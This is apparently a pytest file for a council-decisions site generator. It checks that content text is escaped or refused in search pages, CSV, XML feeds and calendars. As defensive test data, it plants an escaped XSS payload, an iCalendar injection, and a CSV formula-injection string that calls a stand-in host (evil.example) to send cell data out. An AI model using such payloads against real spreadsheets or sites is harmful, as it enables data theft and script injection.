"""Text from content is safe in every format that reads it: the search UI, CSV, XML, iCalendar.

Each test plants what an attacker or a careless paste would, builds, and looks at the output
as the program that reads it would.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from xml.etree import ElementTree as ET

from digest import audit
from digest.build import build

from .conftest import browser_needed, options_for, replace_once

MARKUP = "&lt;img src=x onerror=document.title='owned'&gt;"


def test_html_codes_in_filter_sources_are_refused_with_file_and_line(project: Path) -> None:
    content = project / "content"
    replace_once(content / "authorities" / "testshire.yaml", "name: Testshire Council",
             f'name: "Testshire Council {MARKUP}"')
    replace_once(content / "topics.yaml", "name: Neglect", f'name: "Neglect {MARKUP}"')
    result = build(options_for(project))
    assert [(f.path, f.line, f.field, f.message) for f in result.findings] == [
        ("content/authorities/testshire.yaml", 2, "name",
         "contains '&lt;', a code for web pages"),
        ("content/topics.yaml", 3, "topics[0].name", "contains '&lt;', a code for web pages"),
    ]
    assert not (project / "site").exists()


@browser_needed
def test_search_filter_labels_show_their_text_and_run_nothing(project: Path) -> None:
    content = project / "content"
    odd = """Testshire & "Council" 'Ltd' onerror=x"""
    replace_once(content / "authorities" / "testshire.yaml", "name: Testshire Council",
             "name: '" + odd.replace("'", "''") + "'")
    replace_once(content / "topics.yaml", "name: Neglect", "name: 'Neglect & \"care\"'")
    result = build(options_for(project))
    assert not [f for f in result.findings if f.level == "error"], result.findings
    with audit.serve(project / "site") as base, audit.chromium() as browser:
        page = browser.new_page()
        page.goto(base + "search/?q=neglect")
        page.wait_for_selector("#digest-search-results a", timeout=15000)
        page.click("#digest-search-filters summary")
        page.wait_for_selector(".digest-filter", timeout=15000)
        labels = [(label.text_content() or "").rsplit(" (", 1)[0] for label in
                  page.query_selector_all(".digest-filter label")]
        assert odd in labels and 'Neglect & "care"' in labels, labels
        assert page.query_selector_all("#digest-filter-panel *[onerror]") == []
        titles = [a.text_content() for a in page.query_selector_all("#digest-search-results a")]
        assert titles and page.query_selector_all("#digest-search-results *[onerror]") == []


def test_csv_cells_never_start_a_formula(project: Path) -> None:
    meeting = project / "content" / "meetings" / "testshire" / "2024-05-01-scrutiny.yaml"
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    replace_once(meeting, "{text: That the report be noted., plain:",
             "{text: " + repr(attack).replace("'", '"' if '"' not in attack else "'")
             + ", plain:")
    result = build(options_for(project))
    assert not [f for f in result.findings if f.level == "error"], result.findings
    rows = list(csv.reader(io.StringIO(
        (project / "site" / "data" / "decisions.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + attack in cells


def test_control_characters_are_refused_with_file_and_line(project: Path) -> None:
    authority = project / "content" / "authorities" / "testshire.yaml"
    replace_once(authority, "name: Testshire Council", 'name: "Testshire\\rCouncil"')
    result = build(options_for(project))
    assert [f.format() for f in result.findings] == [
        "content/authorities/testshire.yaml:2: name: contains the invisible character U+000D, "
        "which would break pages, feeds and calendars\n"
        "    hint: delete it and type the text again"]
    assert not (project / "site").exists()


def test_feeds_and_calendars_parse_with_every_kind_of_text(project: Path) -> None:
    meeting = project / "content" / "meetings" / "testshire" / "2024-05-01-scrutiny.yaml"
    replace_once(meeting, "venue: Council Chamber",
             'venue: "Council Chamber; BEGIN:VEVENT, \\"quotes\\" & <b>tags</b> \u00e9\u2028"')
    result = build(options_for(project))
    assert not [f for f in result.findings if f.level == "error"], result.findings
    site = project / "site"
    for feed in site.joinpath("feeds").rglob("*.xml"):
        ET.parse(feed)
    for ics in site.joinpath("calendars").glob("*.ics"):
        lines = ics.read_bytes().split(b"\r\n")
        assert lines.count(b"BEGIN:VEVENT") == lines.count(b"END:VEVENT")
